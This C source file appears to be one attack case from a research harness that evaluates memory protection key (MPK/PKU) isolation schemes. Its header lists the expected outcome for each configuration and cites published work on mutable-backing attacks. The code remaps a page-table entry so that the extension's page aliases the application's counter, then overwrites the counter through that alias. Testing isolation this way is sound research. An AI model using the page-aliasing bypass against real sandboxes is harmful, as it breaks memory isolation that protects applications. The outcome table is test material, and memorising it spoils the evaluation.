/*
{
  "title": "The page of the application's counter mapped a second time, with the extension's own key, in a write window",
  "precondition": "a write window, as uIO exports it",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (mutable backings)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

static uint8_t room[2 * PAGE];
static volatile uint64_t *counter = &count;

static void map(void) {
  volatile uint8_t *const page = (volatile uint8_t *)(((uint64_t)room + PAGE - 1) & ~(uint64_t)(PAGE - 1));
  *page = 0;
  volatile uint64_t *const entry = leaf(page);
  const uint64_t alias = (*entry & ~ADDRESS_MASK) | (physical(&count) & ADDRESS_MASK);
  USHELL_SET(*entry, alias);
  invalidate(page);
  counter = (volatile uint64_t *)(page + ((uint64_t)&count & (PAGE - 1)));
}

int main(void) {
  BYPASS_OF_KEYS(map());
  *counter = ATTACK_COUNT;
  return 0;
}
